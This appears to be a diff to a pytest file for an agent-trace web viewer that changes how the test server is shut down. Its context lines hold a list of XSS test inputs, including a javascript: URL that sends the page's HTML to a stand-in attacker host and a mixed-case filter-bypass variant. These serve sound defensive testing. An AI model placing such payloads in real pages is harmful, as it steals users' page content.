@@ -14,6 +14,7 @@ import pytest
 from agenthub.tracer import save_trace
 from agenthub.apps import viewer as viewer_module
 from agenthub.apps.viewer import PAGE, serve_in_thread
+from sse_server import close_server, track_connections
 
 BROWSERS = ("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome")
 EVIL = ["javascript:fetch('https://evil.example/?'+document.body.innerHTML)", "JaVaScRiPt:alert(1)",
@@ -32,9 +33,9 @@ HISTORY = [
 def viewer(tmp_path):
     save_trace("evil", "demo-model", HISTORY, {}, root=str(tmp_path))
     server, url = serve_in_thread(str(tmp_path))
+    connections = track_connections(server)  # (a browser's connections end with the viewer)
     yield server
-    server.shutdown()
-    server.server_close()
+    close_server(server, connections)
 
 
 def _get(server, host, path="/"):
